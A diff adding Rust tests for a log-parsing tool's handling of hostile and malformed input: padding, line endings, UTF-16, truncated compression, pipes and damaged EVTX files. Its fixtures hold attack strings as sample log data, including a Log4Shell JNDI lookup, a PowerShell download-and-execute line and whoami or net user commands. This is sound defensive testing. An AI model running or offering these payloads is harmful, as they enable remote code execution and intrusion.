@@ -1032,3 +1032,468 @@ fn w3c_proxy_log_is_a_proxy_log() {
     );
     assert_eq!(e.origin.position, Position::Line(5));
 }
+
+// Issue 17: hostile and awkward input.
+
+/// `n` access-log lines, request `/p{i}` on the i-th (from 0).
+fn access_lines(n: usize, end: &str) -> String {
+    (0..n)
+        .map(|i| {
+            format!(
+                "10.0.{}.{} - - [01/Jan/2024:00:00:00 +0000] \"GET /p{i} HTTP/1.1\" 200 {i} \"-\" \"ua\"{end}",
+                i / 250 % 250,
+                i % 250
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn issue17_long_first_line_or_nul_padding_does_not_hide_the_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let body = access_lines(20_000, "\n");
+    let mut long = vec![b'A'; 70 * 1024];
+    long.push(b'\n');
+    let mut nuls = vec![0u8; 70_000];
+    nuls.push(b'\n');
+    // copytruncate style: the NULs run straight into the first record.
+    let glued = vec![0u8; 70_000];
+    let mut huge = vec![b'B'; 3 << 20];
+    huge.push(b'\n');
+    for (name, junk) in [
+        ("long.log", &long),
+        ("nuls.log", &nuls),
+        ("glued.log", &glued),
+        ("huge.log", &huge),
+    ] {
+        let mut bytes = junk.clone();
+        bytes.extend_from_slice(body.as_bytes());
+        let p = write(dir.path(), name, &bytes);
+        let mut lines = Vec::new();
+        let mut first = Vec::new();
+        let stats = read_path(&p, &ReadOptions::default(), |e| {
+            lines.push(e.origin.position.number());
+            if first.is_empty() {
+                first.push(e);
+            }
+        });
+        let s = &stats[0];
+        assert_eq!(s.format, "access", "{name}: {s:?}");
+        assert!(s.error.is_none(), "{name}: {s:?}");
+        if name == "glued.log" {
+            // The padding is dropped and the record it ran into is read.
+            assert_eq!((s.events, s.unparsed), (20_000, 0), "{s:?}");
+            assert_eq!(lines.first(), Some(&1));
+            assert_eq!(text(&first[0], "c-ip").as_deref(), Some("10.0.0.0"));
+            continue;
+        }
+        // The junk line is unparsed, with its reason; every record after it is an event.
+        assert_eq!(s.unparsed, 1, "{name}: {s:?}");
+        assert_eq!(s.unparsed_samples[0].line, 1, "{name}");
+        assert_eq!(s.events, 20_000, "{name}");
+        assert_eq!(lines.first(), Some(&2), "{name}");
+        assert_eq!(lines.last(), Some(&20_001), "{name}");
+        if name == "nuls.log" {
+            assert!(s.unparsed_samples[0].reason.contains("NUL"), "{s:?}");
+        }
+        if name == "huge.log" {
+            assert!(
+                s.unparsed_samples[0].reason.contains("over the cap"),
+                "{s:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn issue17_lone_cr_line_ends_are_line_ends() {
+    let dir = tempfile::tempdir().unwrap();
+    let records = [
+        "10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] \"GET /a HTTP/1.1\" 200 5 \"-\" \"ua\"",
+        "10.0.0.2 - - [01/Jan/2024:00:00:01 +0000] \"GET /b HTTP/1.1\" 200 5 \"-\" \"ua\"",
+        "10.0.0.3 - - [01/Jan/2024:00:00:02 +0000] \"GET /c HTTP/1.1\" 200 5 \"-\" \"ua\"",
+        "10.0.0.4 - - [01/Jan/2024:00:00:03 +0000] \"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 5 \"-\" \"ua\"",
+    ];
+    let p = write(dir.path(), "cr.log", (records.join("\r") + "\r").as_bytes());
+    let mut evs = Vec::new();
+    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
+    assert_eq!(stats[0].format, "access");
+    assert_eq!((stats[0].events, stats[0].unparsed), (4, 0), "{stats:?}");
+    assert_eq!(evs[3].origin.position, Position::Line(4));
+    assert!(text(&evs[3], "cs-uri-query").is_some_and(|q| q.contains("${jndi:ldap")));
+    assert_eq!(evs[3].raw.as_deref(), Some(records[3]));
+
+    // Mixed ends in a file large enough to be chunked: line numbers stay exact across chunks.
+    let ends = ["\r", "\n", "\r\n"];
+    let mut body = String::new();
+    for i in 0..30_000 {
+        body.push_str(&format!(
+            "10.0.0.{} - - [01/Jan/2024:00:00:00 +0000] \"GET /p{i} HTTP/1.1\" 200 {i} \"-\" \"ua\"",
+            i % 250
+        ));
+        body.push_str(ends[i * 7 % 3]);
+        if i % 1013 == 0 {
+            body.push_str("\r\n"); // a blank line between records
+        }
+    }
+    let p = write(dir.path(), "mixed.log", body.as_bytes());
+    let files = vec![spoor_input::InputFile::new(&p)];
+    let mut seen = Vec::new();
+    for split_bytes in [u64::MAX, 100_000, 77_777] {
+        let opts = ReadOptions {
+            split_bytes,
+            ..ReadOptions::default()
+        };
+        let (states, stats) = read_all(&files, &opts, Vec::new, |v: &mut Vec<(u64, String)>, e| {
+            v.push((
+                e.origin.position.number(),
+                text(&e, "cs-uri-stem").unwrap_or_default(),
+            ))
+        });
+        if split_bytes != u64::MAX {
+            assert!(states.len() >= 10, "{} chunks", states.len());
+        }
+        let s = &stats[0];
+        assert_eq!((s.events, s.unparsed), (30_000, 0), "{s:?}");
+        assert_eq!(s.skipped, 30, "{s:?}");
+        let mut got: Vec<(u64, String)> = states.into_iter().flatten().collect();
+        got.sort();
+        // Record i is on line i + 1 + (blank lines before it).
+        for (i, (line, stem)) in got.iter().enumerate() {
+            assert_eq!(stem, &format!("/p{i}"));
+            assert_eq!(*line, i as u64 + 1 + (i as u64).div_ceil(1013), "{stem}");
+        }
+        seen.push(got);
+    }
+    assert!(seen.windows(2).all(|w| w[0] == w[1]));
+}
+
+fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
+    let mut v = if big_endian {
+        vec![0xfe, 0xff]
+    } else {
+        vec![0xff, 0xfe]
+    };
+    for u in text.encode_utf16() {
+        v.extend(if big_endian {
+            u.to_be_bytes()
+        } else {
+            u.to_le_bytes()
+        });
+    }
+    v
+}
+
+#[test]
+fn issue17_utf16_logs_are_decoded() {
+    let dir = tempfile::tempdir().unwrap();
+    // An IIS log as PowerShell re-saves it: UTF-16LE with a byte order mark, CRLF.
+    let mut iis = String::from(
+        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n\
+         #Date: 2024-03-01 00:00:00\r\n\
+         #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\r\n",
+    );
+    for i in 0..300 {
+        iis.push_str(&format!(
+            "2024-03-01 00:00:{:02} 10.0.0.5 GET /owa/caf\u{e9}{i}.aspx cmd=whoami 443 - 198.51.100.{} Mozilla/5.0 200 0 0 15\r\n",
+            i % 60,
+            i % 250
+        ));
+    }
+    let p = write(dir.path(), "u_ex240301.log", &utf16(&iis, false));
+    let mut evs = Vec::new();
+    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
+    let s = &stats[0];
+    assert_eq!(s.format, "utf16le+iis", "{s:?}");
+    assert_eq!((s.events, s.unparsed, s.skipped), (300, 0, 4), "{s:?}");
+    assert_eq!(
+        text(&evs[7], "cs-uri").as_deref(),
+        Some("/owa/caf\u{e9}7.aspx?cmd=whoami")
+    );
+    assert_eq!(text(&evs[7], "c-ip").as_deref(), Some("198.51.100.7"));
+    assert_eq!(evs[7].origin.position, Position::Line(12));
+
+    // A CSV of Windows events, UTF-16BE, gzip-compressed.
+    let csv = "EventID,Channel,CommandLine\r\n4688,Security,whoami /all \u{1f600}\r\n4688,Security,net user\r\n";
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    gz.write_all(&utf16(csv, true)).unwrap();
+    let p = write(dir.path(), "export.csv.gz", &gz.finish().unwrap());
+    let mut evs = Vec::new();
+    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
+    assert_eq!(stats[0].format, "gzip+utf16be+csv", "{stats:?}");
+    assert_eq!(stats[0].events, 2);
+    assert_eq!(
+        text(&evs[0], "CommandLine").as_deref(),
+        Some("whoami /all \u{1f600}")
+    );
+
+    // A large UTF-16 access log (forced format too) is read whole, never split into chunks of
+    // bytes that are not chunks of the text.
+    let body = access_lines(20_000, "\r\n");
+    let p = write(dir.path(), "access16.log", &utf16(&body, false));
+    let files = vec![spoor_input::InputFile::new(&p)];
+    for format in [None, Some(InputFormat::WebAccess)] {
+        let opts = ReadOptions {
+            format,
+            split_bytes: 256 * 1024,
+            ..ReadOptions::default()
+        };
+        let (states, stats) = read_all(&files, &opts, Vec::new, |v: &mut Vec<(u64, String)>, e| {
+            v.push((
+                e.origin.position.number(),
+                text(&e, "cs-uri-stem").unwrap_or_default(),
+            ))
+        });
+        assert_eq!(states.len(), 1);
+        assert_eq!(
+            (stats[0].events, stats[0].unparsed),
+            (20_000, 0),
+            "{stats:?}"
+        );
+        assert!(stats[0].format.starts_with("utf16le+"), "{stats:?}");
+        let got: Vec<(u64, String)> = states.into_iter().flatten().collect();
+        assert!(got
+            .iter()
+            .enumerate()
+            .all(|(i, (line, stem))| *line == i as u64 + 1 && stem == &format!("/p{i}")));
+    }
+}
+
+#[test]
+fn issue17_truncated_zstd_keeps_what_decodes_and_says_it_is_damaged() {
+    use ruzstd::encoding::{compress_to_vec, CompressionLevel};
+    let dir = tempfile::tempdir().unwrap();
+    let body = access_lines(30_000, "\n");
+    let z = compress_to_vec(body.as_bytes(), CompressionLevel::Fastest);
+    let whole = write(dir.path(), "whole.log.zst", &z);
+    let stats = read_path(&whole, &ReadOptions::default(), |_| {});
+    assert_eq!(stats[0].format, "zstd+access");
+    assert_eq!((stats[0].events, stats[0].unparsed), (30_000, 0));
+    assert!(stats[0].error.is_none(), "{stats:?}");
+    for frac in [0.3, 0.5, 0.8] {
+        let cut = (z.len() as f64 * frac) as usize;
+        let p = write(dir.path(), "cut.log.zst", &z[..cut]);
+        let mut stems = Vec::new();
+        let stats = read_path(&p, &ReadOptions::default(), |e| {
+            stems.push(text(&e, "cs-uri-stem").unwrap_or_default())
+        });
+        let s = &stats[0];
+        println!(
+            "zstd cut at {frac}: {} of 30000 lines read, {s:?}",
+            s.events
+        );
+        assert_eq!(s.format, "zstd+access");
+        // Most of what the cut kept is read, in order, as it was.
+        assert!(s.events as f64 > 30_000.0 * (frac - 0.15), "{frac}: {s:?}");
+        assert!(stems
+            .iter()
+            .enumerate()
+            .all(|(i, st)| st == &format!("/p{i}")));
+        // The damage is the file's error (the run exits 3).
+        assert!(
+            s.error.as_deref().unwrap_or("").contains("damaged"),
+            "{s:?}"
+        );
+        // The line cut in two is counted, not dropped.
+        assert!(s.unparsed <= 1, "{s:?}");
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn issue17_pipes_fifos_and_stdin_are_read_as_streams() {
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("live.pipe");
+    let made = std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap();
+    assert!(made.success());
+    write(dir.path(), "plain.log", ACCESS.as_bytes());
+    // Found by walking a folder, a FIFO is passed over (reading it could block for ever).
+    let (files, problems) = discover(&[dir.path().to_path_buf()], &ReadOptions::default());
+    assert!(problems.is_empty(), "{problems:?}");
+    assert_eq!(files.len(), 1, "{files:?}");
+    // Named explicitly it is read, as a stream; the writer trickles its first bytes.
+    let body = access_lines(5000, "\n");
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    gz.write_all(body.as_bytes()).unwrap();
+    let gz = gz.finish().unwrap();
+    for data in [body.as_bytes().to_vec(), gz] {
+        let writer = {
+            let fifo = fifo.clone();
+            std::thread::spawn(move || {
+                let mut w = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
+                for b in &data[..40] {
+                    w.write_all(&[*b]).unwrap();
+                    w.flush().unwrap();
+                    std::thread::sleep(std::time::Duration::from_millis(1));
+                }
+                w.write_all(&data[40..]).unwrap();
+            })
+        };
+        let (files, problems) = discover(std::slice::from_ref(&fifo), &ReadOptions::default());
+        assert!(problems.is_empty(), "{problems:?}");
+        assert_eq!(files.len(), 1);
+        let opts = ReadOptions {
+            split_bytes: 1024,
+            ..ReadOptions::default()
+        };
+        let (states, stats) = read_all(&files, &opts, Vec::new, |v: &mut Vec<u64>, e| {
+            v.push(e.origin.position.number())
+        });
+        writer.join().unwrap();
+        let s = &stats[0];
+        assert!(s.format.ends_with("access"), "{s:?}");
+        assert_eq!((s.events, s.unparsed), (5000, 0), "{s:?}");
+        assert!(s.error.is_none(), "{s:?}");
+        let lines: Vec<u64> = states.into_iter().flatten().collect();
+        assert_eq!(lines, (1..=5000).collect::<Vec<_>>());
+    }
+    // `-` is standard input, and /dev/stdin a pipe: read in a child run of this test binary
+    // with its standard input piped.
+    for name in ["-", "/dev/stdin"] {
+        let mut child = std::process::Command::new(std::env::current_exe().unwrap())
+            .args(["--exact", "issue17_stdin_child", "--ignored", "--nocapture"])
+            .env("SPOOR_ISSUE17_STDIN", name)
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut stdin = child.stdin.take().unwrap();
+        let feed = body.clone();
+        let feeder = std::thread::spawn(move || stdin.write_all(feed.as_bytes()).unwrap());
+        let out = child.wait_with_output().unwrap();
+        feeder.join().unwrap();
+        let out = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            out.contains(&format!("stdin child: {name} access 5000 events")),
+            "{out}"
+        );
+    }
+}
+
+/// Run by `issue17_pipes_fifos_and_stdin_are_read_as_streams` with its standard input piped.
+#[test]
+#[ignore = "run as a child by issue17_pipes_fifos_and_stdin_are_read_as_streams"]
+fn issue17_stdin_child() {
+    let Ok(name) = std::env::var("SPOOR_ISSUE17_STDIN") else {
+        return;
+    };
+    let (files, problems) = discover(&[PathBuf::from(&name)], &ReadOptions::default());
+    assert!(problems.is_empty(), "{problems:?}");
+    let (_, stats) = read_all(&files, &ReadOptions::default(), || (), |_, _| {});
+    let s = &stats[0];
+    println!("stdin child: {} {} {} events", s.path, s.format, s.events);
+}
+
+#[test]
+fn issue17_json_lone_surrogate_becomes_replacement_character() {
+    let dir = tempfile::tempdir().unwrap();
+    let lines = [
+        r#"{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","ScriptBlockText":"iex \ud800(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"}"#,
+        r#"{"a":"\udc00x"}"#,
+        r#"{"b":"\\ud800"}"#,
+        r#"{"c":"\ud83d\ude00"}"#,
+        r#"{"d":"\ud800\u0041"}"#,
+        r#"{"e":"\ud800 not closed"#,
+    ];
+    let p = write(
+        dir.path(),
+        "events.json",
+        (lines.join("\n") + "\n").as_bytes(),
+    );
+    let mut evs = Vec::new();
+    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
+    let s = &stats[0];
+    assert_eq!(s.format, "json");
+    assert_eq!((s.events, s.unparsed), (5, 1), "{s:?}");
+    assert_eq!(s.unparsed_samples[0].line, 6);
+    assert_eq!(evs[0].logsource.category.as_deref(), Some("ps_script"));
+    assert_eq!(evs[0].origin.position, Position::Line(1));
+    assert_eq!(
+        text(&evs[0], "ScriptBlockText").as_deref(),
+        Some("iex \u{fffd}(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')")
+    );
+    assert_eq!(text(&evs[1], "a").as_deref(), Some("\u{fffd}x"));
+    assert_eq!(text(&evs[2], "b").as_deref(), Some("\\ud800"));
+    assert_eq!(text(&evs[3], "c").as_deref(), Some("\u{1f600}"));
+    assert_eq!(text(&evs[4], "d").as_deref(), Some("\u{fffd}A"));
+    // In a JSON array too.
+    let p = write(dir.path(), "array.json", br#"[{"u":"\udfff"},{"v":1}]"#);
+    let mut evs = Vec::new();
+    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
+    assert_eq!((stats[0].events, stats[0].unparsed), (2, 0), "{stats:?}");
+    assert_eq!(text(&evs[0], "u").as_deref(), Some("\u{fffd}"));
+}
+
+#[test]
+fn issue17_damaged_evtx_chunk_counts_the_records_it_loses() {
+    let Some(c) = corpora("issue17_damaged_evtx_chunk_counts_the_records_it_loses") else {
+        return;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    const CHUNK: usize = 4096 + 65536; // offset of chunk 1
+    let src = c.join("evtx-attack-samples/Credential Access/etw_rpc_zerologon.evtx");
+    let bytes = std::fs::read(&src).unwrap();
+    let whole = read_path(&src, &ReadOptions::default(), |_| {});
+    assert_eq!(whole[0].unparsed, 0, "{whole:?}");
+    // The chunk's header magic broken, its record range intact: the range is the count.
+    let mut magic = bytes.clone();
+    magic[CHUNK..CHUNK + 8].copy_from_slice(b"XXXXXXXX");
+    let p = write(dir.path(), "magic.evtx", &magic);
+    let stats = read_path(&p, &ReadOptions::default(), |_| {});
+    let s = &stats[0];
+    println!("broken chunk magic: {s:?}");
+    let lost = whole[0].events - s.events;
+    assert!(lost > 100, "{s:?}");
+    assert_eq!(s.unparsed, lost, "{s:?}");
+    assert!(s.unparsed_samples[0].reason.contains("chunk 1"), "{s:?}");
+    // Magic and range both damaged: counted as one, and the file's error says more were lost.
+    let mut smashed = bytes.clone();
+    for (k, b) in smashed[CHUNK..CHUNK + 48].iter_mut().enumerate() {
+        *b = 0xff - k as u8;
+    }
+    let p = write(dir.path(), "smashed.evtx", &smashed);
+    let stats = read_path(&p, &ReadOptions::default(), |_| {});
+    let s = &stats[0];
+    println!("smashed chunk header: {s:?}");
+    assert!(s.events < whole[0].events);
+    assert!(s.unparsed >= 1, "{s:?}");
+    assert!(
+        s.error
+            .as_deref()
+            .unwrap_or("")
+            .contains("could not be counted"),
+        "{s:?}"
+    );
+    // Every multi-chunk sample, its second chunk's magic broken: never less damage than there is.
+    let (files, _) = discover(
+        &[c.join("evtx-attack-samples")],
+        &ReadOptions {
+            globs: vec!["*.evtx".into()],
+            ..ReadOptions::default()
+        },
+    );
+    let mut checked = 0;
+    for f in files.iter().filter(|f| f.size > (CHUNK + 65536) as u64) {
+        let mut b = std::fs::read(&f.path).unwrap();
+        if &b[CHUNK..CHUNK + 8] != b"ElfChnk\0" {
+            continue;
+        }
+        b[CHUNK..CHUNK + 8].copy_from_slice(b"XXXXXXXX");
+        let p = write(dir.path(), "each.evtx", &b);
+        let before = read_path(&f.path, &ReadOptions::default(), |_| {});
+        let after = read_path(&p, &ReadOptions::default(), |_| {});
+        let (b0, a0) = (&before[0], &after[0]);
+        let lost = b0.events - a0.events;
+        assert!(
+            a0.unparsed >= lost + b0.unparsed || a0.error.is_some(),
+            "{}: {lost} lost, {a0:?}",
+            f.display
+        );
+        checked += 1;
+    }
+    println!("{checked} EVTX files with a broken chunk magic account for every lost record");
+    assert!(checked >= 10, "{checked}");
+}
